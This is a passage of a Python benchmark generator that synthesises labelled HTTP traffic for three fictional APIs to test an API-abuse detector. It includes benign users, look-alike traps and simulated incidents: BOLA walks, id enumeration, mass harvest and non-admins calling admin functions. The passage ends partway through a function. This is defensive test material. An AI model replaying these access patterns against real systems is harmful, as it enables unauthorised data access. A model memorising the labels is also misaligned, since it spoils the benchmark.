"""A second, independent attack generator: three services of other API styles on one sensor.

``bench/attacks/gen.py`` is one shop API (numeric ids in paths, JWTs, a JSON login). The detector
was written against it, so its score says little about other APIs. This hour mixes three services
seen by one sensor, each with its own id kinds, id locations and identity kinds:

* ``docs.example`` -- REST with nested resources (``/v2/users/{uid}/documents/{doc}``), UUIDs,
  identity by session cookie after a form login (``POST /session``, ``email=&password=``, 401 on
  failure; or the web UI's ``POST /login``: 302 on success, the form again with 200 on failure);
  it also serves the web app: any unmatched path is answered 200 with the app's index page.
* ``ledger.example`` -- ids in the query (``/accounts?account_id=acc_…``) and in JSON bodies
  (``POST /orders/get {"order_id": "ord_…"}``), slug ids, opaque bearer tokens from an OAuth
  password grant (``POST /oauth/token``, form-encoded; refusals are 400 ``invalid_grant``).
* ``rpc.example`` -- RPC methods (``/api/invoices.get?id=``, ``POST /api/invoices.list``), 40-hex
  ids, identity by ``X-API-Key`` or Basic credentials, answers in an envelope
  (``{"ok": true, "result": {"invoices": [...]}}``), unknown methods and refused sign-ins
  (``POST /api/auth.signin``) 200 ``{"ok": false}``.

Same labelling contract as ``gen.py`` (``Incident``, ``Traffic``: ``trap_ips``, ``benign_ips``):
benign users of every service, the look-alike traps (batch clients paging their own listings
fast, health probes, a NAT address shared by 40 users, admins, a support agent opening customers'
documents, users retrying a login three times, ``O'Brien`` searches, ``<b>`` notes, OData and
range filters, webhook URLs, form-encoded legacy clients) and, after the learning period, one incident of every type per
service (``reps`` = 3 puts one on each): a BOLA walk spread over the rest of the hour, enumeration
mostly answered 404, mass harvest, credential stuffing, brute force, injection campaigns in
bodies, headers and cookies, a scanner, BFLA and a quiet reconnaissance (anomaly).

Nothing here imports from ``gen.py`` but the label types. Same seed, same traffic.
"""

from __future__ import annotations

import base64
import json
import random
import string
import uuid
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TypeVar
from urllib.parse import quote, urlencode

from analyzer.detect.model import DetectExchange
from bench.attacks.gen import Incident, Traffic

START = 1_772_546_400.0  # 2026-03-03 14:00 UTC: daytime
HOUR = 3600.0
LEARNING = 900.0
DOCS, LEDGER, RPC = "docs.example", "ledger.example", "rpc.example"
MIN_USERS = 30
T = TypeVar("T")
SERVICES = (DOCS, LEDGER, RPC)
_ALNUM = string.ascii_letters + string.digits
# docs.example also serves its web app: any path no endpoint matches gets the app's index page, 200.
SPA_INDEX = ('<!doctype html><html><head><meta charset="utf-8"><title>Docs</title><script type="module" '
             'src="/assets/index-4f9a1c.js"></script></head><body><div id="root"></div></body></html>')


def _json(value: object) -> bytes:
    return json.dumps(value, separators=(",", ":")).encode()


@dataclass
class _User:
    n: int
    service: str
    name: str
    email: str
    password: str
    uid: str
    objects: list[str]  # docs: documents; ledger: orders; rpc: invoices
    accounts: list[str] = field(default_factory=list)  # ledger only
    credential: str = ""  # session cookie value / bearer token / API key
    basic: bool = False  # rpc: Basic credentials instead of an API key


class _Ids:
    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def uuid(self) -> str:
        return str(uuid.UUID(int=self.rng.getrandbits(128), version=4))

    def hex40(self) -> str:
        return f"{self.rng.getrandbits(160):040x}"

    def slug(self, prefix: str) -> str:
        body = [self.rng.choice(_ALNUM) for _ in range(14)]
        body[self.rng.randrange(14)] = self.rng.choice(string.digits)  # ids of this shape always hold a digit
        return f"{prefix}_{''.join(body)}"

    def token(self, n: int = 32) -> str:
        return "".join(self.rng.choice(_ALNUM + "-_") for _ in range(n))


class _World:
    """Users and their objects: the same whatever the seed (the seed varies behaviour)."""

    def __init__(self, users: int) -> None:
        rng = random.Random(9_100 + users)
        ids = _Ids(rng)
        self.users: list[_User] = []
        for n in range(users):
            service = SERVICES[n % 3]
            name = f"{rng.choice(['ana', 'li', 'sam', 'noor', 'kofi', 'mia', 'raj', 'eva'])}.{n}"
            email = f"{name}@corp{n % 7}.example"
            if service == DOCS:
                user = _User(n, service, name, email, f"Pw-{ids.token(10)}", ids.uuid(), [ids.uuid() for _ in range(rng.randint(3, 12))],
                             credential=ids.token(40))
            elif service == LEDGER:
                accounts = [ids.slug("acc") for _ in range(rng.randint(1, 3))]
                user = _User(n, service, name, email, f"Pw-{ids.token(10)}", ids.slug("usr"),
                             [ids.slug("ord") for _ in range(rng.randint(3, 12))], accounts, credential=ids.token(48))
            else:
                user = _User(n, service, name, email, f"Pw-{ids.token(10)}", ids.hex40(), [ids.hex40() for _ in range(rng.randint(3, 12))],
                             credential=f"sk_live_{ids.token(32)}", basic=n % 9 == 2)
            self.users.append(user)
        self.templates = list(range(1, 61))  # docs: a shared catalogue of document templates
        self.items = list(range(1000, 1300))  # rpc: a shared catalogue
        self.batch_accounts = [ids.slug("acc") for _ in range(20)]
        self.batch_orders = [ids.slug("ord") for _ in range(1200)]
        self.report_invoices = [ids.hex40() for _ in range(1200)]

    def of(self, service: str) -> list[_User]:
        return [u for u in self.users if u.service == service]


class _Gen:
    def __init__(self, seed: int, users: int, start: float) -> None:
        self.rng = random.Random(seed)
        self.ids = _Ids(self.rng)
        self.start = start
        self.world = _World(users)
        self.out = Traffic()

    # --- wire ----------------------------------------------------------------------------------
    def x(self, ts: float, ip: str, host: str, method: str, path: str, status: int, *, query: str = "",
          template: str | None = None, params: tuple[tuple[str, str], ...] = (), headers: tuple[tuple[str, str], ...] = (),
          json_body: object = None, form: dict[str, str] | None = None, response: object = None,
          pii: tuple[tuple[str, int], ...] = (), response_headers: tuple[tuple[str, str], ...] = (),
          agent: str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0", html: str | None = None) -> None:
        req_headers = [("Host", host), ("User-Agent", agent), ("Accept", "application/json"), *headers]
        body = b""
        if json_body is not None:
            body = _json(json_body)
            req_headers.append(("Content-Type", "application/json; charset=utf-8"))
        elif form is not None:
            body = urlencode(form).encode()
            req_headers.append(("Content-Type", "application/x-www-form-urlencoded"))
        response_body = _json(response) if response is not None else b""
        ctype = "application/json" if response is not None else ""
        if html is not None:
            response_body, ctype = html.encode(), "text/html"
        self.out.exchanges.append(DetectExchange(
            ts=ts, client_ip=ip, host=host, method=method, path=path, query=query, status=status,
            template=template if template is not None else path, path_params=params, request_headers=tuple(req_headers),
            response_headers=(("Content-Type", ctype or "application/json"), ("Server", "envoy"), *response_headers),
            request_body=body, response_body=response_body, response_content_type=ctype, pii=pii,
        ))

    def auth(self, user: _User) -> tuple[tuple[str, str], ...]:
        if user.service == DOCS:
            cookies = f"csrftoken={user.credential[:16]}; sessionid={user.credential}" if user.n % 2 else f"sessionid={user.credential}; theme=dark"
            return (("Cookie", cookies),)
        if user.service == LEDGER:
            return (("Authorization", f"Bearer {user.credential}"),)
        if user.basic:
            return (("Authorization", "Basic " + base64.b64encode(f"{user.name}:{user.password}".encode()).decode()),)
        return (("X-API-Key", user.credential),)

    # --- logins (one per style) ----------------------------------------------------------------
    def login(self, t: float, ip: str, service: str, user: str, password: str, ok: bool, *, agent: str | None = None,
              credential: str = "", web: bool = False, envelope: bool = False) -> None:
        kw: dict[str, object] = {} if agent is None else {"agent": agent}
        if service == DOCS and web:  # the web UI's form: 302 into the app, or the form again (200)
            self.x(t, ip, DOCS, "POST", "/login", 302 if ok else 200, form={"username": user, "password": password, "next": "/app"},
                   html=None if ok else "<html><body><form method=post action=/login><p class=error>Wrong email or password</p></form></body></html>",
                   response_headers=(("Location", "/app"), ("Set-Cookie", f"sessionid={credential}; HttpOnly")) if ok else (), **kw)  # type: ignore[arg-type]
        elif service == RPC and envelope:  # an RPC sign-in: every answer 200, the envelope says which
            self.x(t, ip, RPC, "POST", "/api/auth.signin", 200, json_body={"email": user, "password": password},
                   response={"ok": True, "token": credential} if ok else {"ok": False, "error": "invalid_credentials"}, **kw)  # type: ignore[arg-type]
        elif service == DOCS:
            self.x(t, ip, DOCS, "POST", "/session", 200 if ok else 401, form={"email": user, "password": password},
                   response={"user": {"email": user}} if ok else {"error": "invalid email or password"},
                   response_headers=(("Set-Cookie", f"sessionid={credential}; HttpOnly; Secure"),) if ok else (), **kw)  # type: ignore[arg-type]
        elif service == LEDGER:
            form = {"grant_type": "password", "username": user, "password": password, "client_id": "ledger-web", "scope": "accounts orders"}
            self.x(t, ip, LEDGER, "POST", "/oauth/token", 200 if ok else 400, form=form,
                   response={"access_token": credential, "token_type": "Bearer", "expires_in": 3600} if ok
                   else {"error": "invalid_grant", "error_description": "Invalid user credentials"}, **kw)  # type: ignore[arg-type]
        else:
            basic = base64.b64encode(f"{user}:{password}".encode()).decode()
            self.x(t, ip, RPC, "GET", "/api/auth.test", 200 if ok else 401, headers=(("Authorization", f"Basic {basic}"),),
                   response={"ok": True, "user": user} if ok else {"ok": False, "error": "invalid_auth"}, **kw)  # type: ignore[arg-type]

    # --- benign --------------------------------------------------------------------------------
    def session(self, user: _User, ip: str, t0: float, t1: float) -> None:
        rng = self.rng
        t = t0
        retry = user.n % 11 == 4
        signin = user.service == RPC and not user.basic and user.n % 4 == 1  # the dashboard's sign-in (envelope answers)
        if user.service != RPC or user.basic or signin:  # API keys need no login
            for attempt in range(3 if retry else 1):
                ok = attempt == (2 if retry else 0)
                self.login(t, ip, user.service, user.email if user.service == DOCS or signin else user.name,
                           user.password if ok else user.password[:-1] + "x", ok, credential=user.credential,
                           web=user.service == DOCS and user.n % 2 == 0, envelope=signin)
                t += rng.uniform(3, 8)
        step = {DOCS: self.docs_step, LEDGER: self.ledger_step, RPC: self.rpc_step}[user.service]
        step(user, ip, t, listing=True)
        while t < t1:
            t += rng.uniform(15, 75)
            step(user, ip, t)

    def docs_step(self, u: _User, ip: str, t: float, listing: bool = False) -> None:
        rng, a = self.rng, self.auth(u)
        roll = 0.1 if listing else rng.random()
        if roll < 0.25:
            docs = [{"id": d, "title": f"Doc {d[:4]}", "owner": {"id": u.uid, "email": u.email}} for d in u.objects]
            query = "page=1&per_page=20"
            if not listing and rng.random() < 0.4:  # OData-style filters (Microsoft Graph, SharePoint, SAP)
                odata = rng.choice(["modified gt 2026-01-01 and kind eq 'doc'", "startswith(title,'Q3') and size lt 10000",
                                    "owner eq 'me' or shared eq true", "title eq 'O''Brien notes'"])
                query += "&$filter=" + quote(odata)
            self.x(t, ip, DOCS, "GET", f"/v2/users/{u.uid}/documents", 200, query=query, headers=a,
                   template="/v2/users/{uid}/documents", params=(("uid", u.uid),),
                   response={"data": docs, "links": {"next": None}}, pii=(("EMAIL", len(docs)),))
        elif roll < 0.45:
            d = rng.choice(u.objects)
            method = "PATCH" if rng.random() < 0.2 else "GET"
            self.x(t, ip, DOCS, method, f"/v2/users/{u.uid}/documents/{d}", 200, headers=a,
                   template="/v2/users/{uid}/documents/{doc}", params=(("uid", u.uid), ("doc", d)),
                   json_body={"title": "Q3 plan (final)"} if method == "PATCH" else None,
                   response={"id": d, "title": "Q3 plan", "owner": {"id": u.uid, "email": u.email}}, pii=(("EMAIL", 1),))
        elif roll < 0.55:
            self.x(t, ip, DOCS, "GET", f"/v2/users/{u.uid}", 200, headers=a, template="/v2/users/{uid}", params=(("uid", u.uid),),
                   response={"id": u.uid, "email": u.email, "phone": f"+44 20 7946 {u.n:04d}"}, pii=(("EMAIL", 1), ("PHONE", 1)))
        elif roll < 0.72:
            tid = rng.choice(self.world.templates)
            self.x(t, ip, DOCS, "GET", f"/v2/templates/{tid}", 200, headers=a, template="/v2/templates/{tid}", params=(("tid", str(tid)),),
                   response={"id": tid, "name": f"Template {tid}"})
        elif roll < 0.85:
            q = rng.choice(["O'Brien", "Q3 & Q4", "50% done", "C++ (notes)", "\"exact phrase\"", "plan; draft", "select team",
                            "café", "1/2 day", "drop-in session", "union meeting", "a < b"])
            self.x(t, ip, DOCS, "GET", "/v2/search", 200, query=f"q={quote(q)}&type=document", headers=a, response={"data": []})
        elif roll < 0.9 and u.n % 2 == 0:  # a web user reloading the app on one of its routes
            route = rng.choice(["/app", "/app/documents", "/app/settings", f"/app/d/{rng.choice(u.objects)}", "/app/search"])
            self.out.exchanges.append(_spa(t, ip, route))
        else:
            text = rng.choice(["<b>important</b>: review before Friday", "Fix the <i>typo</i> in section 2",
                               "Mum's birthday - don't forget!", "if x > 3 && y < 2 then ok", "see `make docs` output",
                               "Owner: O'Brien; reviewer: D'Angelo"])
            note = self.ids.uuid()
            self.x(t, ip, DOCS, "POST", "/v2/notes", 201, headers=a, json_body={"body": text, "document_id": rng.choice(u.objects)},
                   response={"id": note}, response_headers=(("Location", f"/v2/notes/{note}"),))

    def ledger_step(self, u: _User, ip: str, t: float, listing: bool = False) -> None:
        rng, a = self.rng, self.auth(u)
        roll = 0.05 if listing else rng.random()
        if roll < 0.15:
            accounts = [{"account_id": acc, "holder": u.name, "email": u.email} for acc in u.accounts]
            self.x(t, ip, LEDGER, "GET", "/accounts/list", 200, headers=a, response={"accounts": accounts}, pii=(("EMAIL", len(accounts)),))
            if listing:
                t += rng.uniform(1, 4)
                orders = [{"order_id": o, "account_id": u.accounts[0], "ship_to": f"{k} High St"} for k, o in enumerate(u.objects)]
                self.x(t, ip, LEDGER, "POST", "/orders/search", 200, headers=a,
                       json_body={"account_id": u.accounts[0], "page_size": 20}, response={"orders": orders, "next_page_token": None},
                       pii=(("ADDRESS", len(orders)),))
        elif roll < 0.32:
            acc = rng.choice(u.accounts)
            self.x(t, ip, LEDGER, "GET", "/accounts", 200, query=f"account_id={acc}", headers=a,
                   response={"account_id": acc, "holder": u.name, "email": u.email, "balance": 1200}, pii=(("EMAIL", 1),))
        elif roll < 0.52:
            o = rng.choice(u.objects)
            legacy = u.n % 4 == 1  # an older client posting forms
            self.x(t, ip, LEDGER, "POST", "/orders/get", 200, headers=a, json_body=None if legacy else {"order_id": o},
                   form={"order_id": o} if legacy else None,
                   response={"order": {"order_id": o, "account_id": u.accounts[0], "ship_to": "12 High St"}}, pii=(("ADDRESS", 1),))
        elif roll < 0.68:
            orders = [{"order_id": o, "account_id": u.accounts[0], "ship_to": f"{k} High St"} for k, o in enumerate(u.objects)]
            q = rng.choice(["O'Brien", "rock & roll", "100% cotton", "size: 10-12", "tea; biscuits", "select", "AT&T"])
            self.x(t, ip, LEDGER, "POST", "/orders/search", 200, headers=a,
                   json_body={"account_id": u.accounts[0], "query": q, "page_size": 20}, response={"orders": orders, "next_page_token": None},
                   pii=(("ADDRESS", len(orders)),))
        elif roll < 0.85:
            acc = rng.choice(u.accounts)
            txs = [{"transaction_id": self.ids.slug("txn"), "amount": rng.randint(1, 900)} for _ in range(rng.randint(3, 25))]
            query = f"account_id={acc}&limit=25"
            if rng.random() < 0.4:  # a range filter in the API's own small query language
                low = rng.choice([10, 50, 100])
                query += "&filter=" + quote(rng.choice([f"amount >= {low} and amount <= {low * 10}", "created > 2026-02-01 and status = 'settled'",
                                                        f"amount > {low} or currency = 'EUR'"]))
            self.x(t, ip, LEDGER, "GET", "/transactions", 200, query=query, headers=a,
                   response={"transactions": txs, "next_page_token": None})
        else:
            text = rng.choice(["<b>important</b>: card lost", "Where is order #12? (shipped?)", "It's O'Brien, not OBrien",
                               "Refund 50% & keep the rest", "call me after 5pm; thanks"])
            self.x(t, ip, LEDGER, "POST", "/support/messages", 201, headers=a, form={"subject": "Order question", "body": text},
                   response={"message_id": self.ids.slug("msg")})

    def rpc_step(self, u: _User, ip: str, t: float, listing: bool = False) -> None:
        rng, a = self.rng, self.auth(u)
        roll = 0.05 if listing else rng.random()
        agent = "curl/8.5.0" if u.n % 5 == 0 else "acme-sdk-python/3.4.1"
        if roll < 0.2:
            inv = [{"id": i, "customer_email": u.email, "total": 99} for i in u.objects]
            self.x(t, ip, RPC, "POST", "/api/invoices.list", 200, headers=a, json_body={"limit": 20}, agent=agent,
                   response={"ok": True, "result": {"invoices": inv, "next_cursor": None}}, pii=(("EMAIL", len(inv)),))
        elif roll < 0.45:
            i = rng.choice(u.objects)
            self.x(t, ip, RPC, "GET", "/api/invoices.get", 200, query=f"id={i}", headers=a, agent=agent,
                   response={"ok": True, "invoice": {"id": i, "customer_email": u.email, "total": 99}}, pii=(("EMAIL", 1),))
        elif roll < 0.55:
            i = rng.choice(u.objects)
            self.x(t, ip, RPC, "POST", "/api/invoices.update", 200, headers=a, json_body={"id": i, "memo": "Net 30 (agreed)"}, agent=agent,
                   response={"ok": True})
        elif roll < 0.75:
            page = rng.randint(1, 15)
            items = [{"item_id": k, "name": f"Item {k}"} for k in self.world.items[(page - 1) * 20 : page * 20]]
            self.x(t, ip, RPC, "GET", "/api/catalog.items", 200, query=f"page={page}", headers=a, agent=agent,
                   response={"ok": True, "result": {"items": items}})
        elif roll < 0.85:
            self.x(t, ip, RPC, "GET", "/api/users.info", 200, query=f"user_id={u.uid}", headers=a, agent=agent,
                   response={"ok": True, "user": {"id": u.uid, "email": u.email}}, pii=(("EMAIL", 1),))
        elif roll < 0.9:
            self.x(t, ip, RPC, "POST", "/api/webhooks.create", 200, headers=a, agent=agent,
                   json_body={"url": f"https://hooks.partner{u.n % 5}.example/in/T{u.n:04d}", "events": ["invoice.paid"]},
                   response={"ok": True, "webhook": {"id": self.ids.hex40()}})
        else:
            text = rng.choice(["<b>important</b>: pay by Friday", "O'Brien & Sons ltd.", "discount: 10% (one-off)",
                               "a<b, b>c", "run `invoice --dry-run` first"])
            self.x(t, ip, RPC, "POST", "/api/notes.add", 200, headers=a, json_body={"text": text}, agent=agent,
                   response={"ok": True, "note": {"id": self.ids.hex40()}})

    # --- traps ---------------------------------------------------------------------------------
    def traps(self) -> None:
        rng, w, s, out = self.rng, self.world, self.start, self.out
        # ledger batch export: a service account (client credentials) pages its own accounts'
        # orders fast, normal page size, then fetches many of them one by one
        ip = "10.40.0.5"
        out.trap_ips[ip] = "ledger batch client paging its own listing"
        token = self.ids.token(48)
        a = (("Authorization", f"Bearer {token}"),)
        self.x(s + 2, ip, LEDGER, "POST", "/oauth/token", 200, form={"grant_type": "client_credentials", "client_id": "exporter",
               "client_secret": self.ids.token(24)}, response={"access_token": token, "token_type": "Bearer"}, agent="exporter/1.2")
        t = s + 5
        self.x(t, ip, LEDGER, "GET", "/accounts/list", 200, headers=a, agent="exporter/1.2",
               response={"accounts": [{"account_id": acc, "holder": "Exporter Ltd"} for acc in w.batch_accounts]})
        while t < s + HOUR - 120:
            for page in range(60):
                chunk = w.batch_orders[page * 20 : page * 20 + 20]
                acc = w.batch_accounts[page % 20]
                orders = [{"order_id": o, "account_id": acc, "ship_to": "1 Dock Rd"} for o in chunk]
                self.x(t, ip, LEDGER, "POST", "/orders/search", 200, headers=a, agent="exporter/1.2",
                       json_body={"account_id": acc, "page_size": 20, "page_token": f"p{page}"},
                       response={"orders": orders, "next_page_token": f"p{page + 1}"}, pii=(("ADDRESS", len(orders)),))
                t += 0.5
                for o in chunk[:5]:
                    self.x(t, ip, LEDGER, "POST", "/orders/get", 200, headers=a, agent="exporter/1.2", json_body={"order_id": o},
                           response={"order": {"order_id": o, "account_id": acc}}, pii=(("ADDRESS", 1),))
                    t += 0.2
            t += 600
        # rpc reporting integration: pages its own invoices by cursor, fetches each
        ip = "10.40.0.6"
        out.trap_ips[ip] = "rpc reporting client paging its own invoices"
        a = (("X-API-Key", f"sk_live_{self.ids.token(32)}"),)
        t = s + 40
        while t < s + HOUR - 120:
            for page in range(60):
                chunk = w.report_invoices[page * 20 : page * 20 + 20]
                self.x(t, ip, RPC, "POST", "/api/invoices.list", 200, headers=a, agent="reporter/0.9",
                       json_body={"limit": 20, "cursor": f"c{page}"},
                       response={"ok": True, "result": {"invoices": [{"id": i, "customer_email": "ap@reporter.example"} for i in chunk],
                                                          "next_cursor": f"c{page + 1}"}}, pii=(("EMAIL", len(chunk)),))
                t += 0.4
                for i in chunk[:6]:
                    self.x(t, ip, RPC, "GET", "/api/invoices.get", 200, query=f"id={i}", headers=a, agent="reporter/0.9",
                           response={"ok": True, "invoice": {"id": i}}, pii=(("EMAIL", 1),))
                    t += 0.15
            t += 700
        # health probes: one per service, and an uptime monitor calling the RPC auth test
        for k, (host, path, every) in enumerate(((DOCS, "/healthz", 5.0), (LEDGER, "/readyz", 10.0), (RPC, "/api/api.test", 15.0))):
            ip = f"10.40.1.{k + 1}"
            out.trap_ips[ip] = f"health probe on {host}"
            t = s + k
            while t < s + HOUR:
                self.x(t, ip, host, "GET", path, 200, response={"ok": True}, agent="kube-probe/1.30")
                t += every
        # a support agent: looks a customer up, lists the customer's documents, opens a few
        ip = "10.40.3.1"
        out.trap_ips[ip] = "support agent opening customers' documents"
        a = (("Cookie", "sessionid=supportAgentSessionValue000000000000000001"),)
        t = s + 200
        customers = w.of(DOCS)
        while t < s + HOUR - 60:
            c = rng.choice(customers)
            self.x(t, ip, DOCS, "GET", "/v2/admin/users", 200, query=f"email={quote(c.email)}", headers=a,
                   response={"data": [{"id": c.uid, "email": c.email}]}, pii=(("EMAIL", 1),))
            t += rng.uniform(5, 20)
            docs = [{"id": d, "title": "…", "owner": {"id": c.uid}} for d in c.objects]
            self.x(t, ip, DOCS, "GET", f"/v2/users/{c.uid}/documents", 200, query="page=1&per_page=20", headers=a,
                   template="/v2/users/{uid}/documents", params=(("uid", c.uid),), response={"data": docs})
            for d in rng.sample(c.objects, min(3, len(c.objects))):
                t += rng.uniform(10, 40)
                self.x(t, ip, DOCS, "GET", f"/v2/users/{c.uid}/documents/{d}", 200, headers=a,
                       template="/v2/users/{uid}/documents/{doc}", params=(("uid", c.uid), ("doc", d)),
                       response={"id": d, "title": "…", "owner": {"id": c.uid, "email": c.email}}, pii=(("EMAIL", 1),))
            t += rng.uniform(120, 300)
        # admins using admin functions all hour, one per service
        admins: list[tuple[str, Callable[[float, str], None]]] = [("10.40.2.1", self._docs_admin), ("10.40.2.2", self._ledger_admin),
                                                                 ("10.40.2.3", self._rpc_admin)]
        for ip, work in admins:
            out.trap_ips[ip] = "admin using admin functions"
            t = s + 20 + rng.uniform(0, 60)
            while t < s + HOUR:
                work(t, ip)
                t += rng.uniform(90, 240)

    def _docs_admin(self, t: float, ip: str, cookie: str = "sessionid=adm1nSessi0nValueForTheDocsAdminUser01") -> None:
        rng, a = self.rng, (("Cookie", cookie),)
        page = rng.sample(self.world.of(DOCS), min(20, len(self.world.of(DOCS))))
        self.x(t, ip, DOCS, "GET", "/v2/admin/users", 200, query="limit=20", headers=a,
               response={"data": [{"id": u.uid, "email": u.email} for u in page]}, pii=(("EMAIL", len(page)),))
        victim = page[0]
        method, suffix = rng.choice([("POST", "suspend"), ("DELETE", "sessions"), ("GET", "audit")])
        self.x(t + rng.uniform(20, 60), ip, DOCS, method, f"/v2/admin/users/{victim.uid}/{suffix}", 200, headers=a,
               template=f"/v2/admin/users/{{uid}}/{suffix}", params=(("uid", victim.uid),), response={"id": victim.uid, "ok": True})

    def _ledger_admin(self, t: float, ip: str, token: str = "opsAdminOpaqueToken0000000000000000000000001") -> None:
        rng, a = self.rng, (("Authorization", f"Bearer {token}"),)
        page = rng.sample(self.world.of(LEDGER), min(20, len(self.world.of(LEDGER))))
        self.x(t, ip, LEDGER, "GET", "/internal/accounts/export", 200, query="limit=20", headers=a,
               response={"accounts": [{"account_id": u.accounts[0], "email": u.email} for u in page]}, pii=(("EMAIL", len(page)),))
        self.x(t + rng.uniform(20, 60), ip, LEDGER, "POST", "/internal/accounts/freeze", 200, headers=a,
               json_body={"account_id": page[0].accounts[0], "reason": "chargeback review"}, response={"frozen": True})

    def _rpc_admin(self, t: float, ip: str, key: str = "sk_live_adminKeyForTheRpcServiceOps00001") -> None:
        rng, a = self.rng, (("X-API-Key", key),)
        page = rng.sample(self.world.of(RPC), min(20, len(self.world.of(RPC))))
        self.x(t, ip, RPC, "POST", "/api/admin.users.list", 200, headers=a, json_body={"limit": 20},
               response={"ok": True, "result": {"members": [{"id": u.uid, "email": u.email} for u in page]}}, pii=(("EMAIL", len(page)),))
        self.x(t + rng.uniform(20, 60), ip, RPC, "POST", "/api/admin.users.setRole", 200, headers=a,
               json_body={"user_id": page[0].uid, "role": rng.choice(["member", "billing"])}, response={"ok": True})

    # --- incidents -----------------------------------------------------------------------------
    def incidents(self, rep: int) -> None:
        """One incident of every type on service ``SERVICES[rep % 3]``."""
        host = SERVICES[rep % 3]
        base = "192.0.2"
        t0 = self.start + LEARNING + 120 + rep * 500
        n = rep * 40
        ips = {k: f"{base}.{n + i + 1}" for i, k in enumerate(
            ("bola", "enum", "harvest", "stuff", "brute", "sqli", "xss", "path_traversal", "cmd_injection", "ssrf", "jndi",
             "scanner", "bfla", "anomaly"))}
        {DOCS: self._docs_incidents, LEDGER: self._ledger_incidents, RPC: self._rpc_incidents}[host](rep, t0, ips)
        self._login_attacks(host, rep, t0, ips)
        self._injections(host, rep, t0, ips)
        self._scanner(host, rep, t0, ips["scanner"])

    def _add(self, name: str, kind: str, ip: str, acceptable: frozenset[str] = frozenset({"anomaly"})) -> None:
        self.out.incidents.append(Incident(name, kind, ip, acceptable))

    def _victims(self, service: str, k: int) -> list[_User]:
        return [u for u in self.world.of(service) if not u.basic][: k]

    def _walk_times(self, t0: float, count: int) -> list[float]:
        # a slow walk over the rest of the hour: evenly spread, jittered
        end = self.start + HOUR - 60
        gap = (end - t0) / count
        return [t0 + i * gap + self.rng.uniform(0, gap * 0.5) for i in range(count)]

    def _docs_incidents(self, rep: int, t0: float, ips: dict[str, str]) -> None:
        rng = self.rng
        me = self._victims(DOCS, 40)[-1 - rep]  # a real user account turned against the others
        cookie = (("Cookie", f"sessionid={self.ids.token(40)}"),)
        # bola: other users' documents, nested under their own user id
        ip = ips["bola"]
        self._add("slow BOLA walk over nested documents", "bola", ip, frozenset({"anomaly", "enumeration"}))
        victims = [(u, d) for u in self._victims(DOCS, 30) for d in u.objects]
        for t, (u, d) in zip(self._walk_times(t0, 8), rng.sample(victims, 8), strict=True):
            self.x(t, ip, DOCS, "GET", f"/v2/users/{u.uid}/documents/{d}", 200, headers=cookie,
                   template="/v2/users/{uid}/documents/{doc}", params=(("uid", u.uid), ("doc", d)),
                   response={"id": d, "title": "Board minutes", "owner": {"id": u.uid, "email": u.email}}, pii=(("EMAIL", 1),))
        # enumeration: guessed document UUIDs under the attacker's own user, mostly 404
        ip = ips["enum"]
        self._add("UUID guessing, mostly 404", "enumeration", ip, frozenset({"anomaly", "bola", "scanner"}))
        a = (("Cookie", f"sessionid={self.ids.token(40)}"),)
        t = t0 + 300
        real = [d for u in self._victims(DOCS, 30) for d in u.objects]
        for k in range(rng.randint(60, 90)):
            hit = k % 7 == 3
            d = rng.choice(real) if hit else self.ids.uuid()
            self.x(t, ip, DOCS, "GET", f"/v2/users/{me.uid}/documents/{d}", 200 if hit else 404, headers=a,
                   template="/v2/users/{uid}/documents/{doc}", params=(("uid", me.uid), ("doc", d)),
                   response={"id": d} if hit else {"error": "not_found"})
            t += rng.uniform(0.3, 1.2)
        # mass harvest: an export endpoint drained with huge pages
        ip = ips["harvest"]
        self._add("mass harvest through a search export", "mass_harvest", ip)
        a = (("Cookie", f"csrftoken=x{self.ids.token(15)}; sessionid={self.ids.token(40)}"),)
        everyone = self.world.of(DOCS)
        t = t0 + 600
        for page in range(5):
            data = [{"id": self.ids.uuid(), "owner": {"id": u.uid, "email": u.email}} for u in _cycle(everyone, 500)]
            self.x(t, ip, DOCS, "GET", f"/v2/users/{me.uid}/documents", 200, query=f"page={page + 1}&per_page=500&include=shared",
                   headers=a, template="/v2/users/{uid}/documents", params=(("uid", me.uid),),
                   response={"data": data, "links": {"next": "…"}}, pii=(("EMAIL", len(data)),))
            t += rng.uniform(20, 40)
        # bfla: an ordinary user suspending accounts through the admin functions
        ip = ips["bfla"]
        self._add("user calling admin functions", "bfla", ip, frozenset({"anomaly", "bola"}))
        t = t0 + 400
        a = (("Cookie", f"sessionid={self.ids.token(40)}"),)
        for k in range(3):
            victim = everyone[k]
            self.x(t, ip, DOCS, "POST", f"/v2/admin/users/{victim.uid}/suspend", 200, headers=a,
                   template="/v2/admin/users/{uid}/suspend", params=(("uid", victim.uid),), response={"id": victim.uid, "ok": True})
            t += rng.uniform(30, 90)
        # anomaly: quiet reconnaissance over many endpoints, forbidden
        self._recon(DOCS, ips["anomaly"], t0 + 1500, lambda k, r: (f"/v2/{r}/{self.ids.uuid()}", f"/v2/{r}/{{id}}"), 403)

    def _ledger_incidents(self, rep: int, t0: float, ips: dict[str, str]) -> None:
        rng = self.rng
        a = (("Authorization", f"Bearer {self.ids.token(48)}"),)
        # bola: other users' orders by id in the JSON body, and their accounts by id in the query
        ip = ips["bola"]
        self._add("slow BOLA walk, ids in bodies and queries", "bola", ip, frozenset({"anomaly", "enumeration"}))
        victims = self._victims(LEDGER, 30)
        times = self._walk_times(t0, 10)
        for k, t in enumerate(times):
            u = victims[k]
            if k % 2:
                o = rng.choice(u.objects)
                form = k % 4 == 3  # some reads as a form, the way the legacy clients send them
                self.x(t, ip, LEDGER, "POST", "/orders/get", 200, headers=a, json_body=None if form else {"order_id": o},
                       form={"order_id": o} if form else None,
                       response={"order": {"order_id": o, "account_id": u.accounts[0], "ship_to": "9 Elm Rd"}}, pii=(("ADDRESS", 1),))
            else:
                acc = u.accounts[0]
                self.x(t, ip, LEDGER, "GET", "/accounts", 200, query=f"account_id={acc}", headers=a,
                       response={"account_id": acc, "holder": u.name, "email": u.email, "balance": 40}, pii=(("EMAIL", 1),))
        # enumeration: guessed account ids in the query, mostly 404
        ip = ips["enum"]
        self._add("account id guessing in the query, mostly 404", "enumeration", ip, frozenset({"anomaly", "bola", "scanner"}))
        a2 = (("Authorization", f"Bearer {self.ids.token(48)}"),)
        t = t0 + 300
        real = [acc for u in victims for acc in u.accounts]
        for k in range(rng.randint(60, 90)):
            hit = k % 9 == 4
            acc = rng.choice(real) if hit else self.ids.slug("acc")
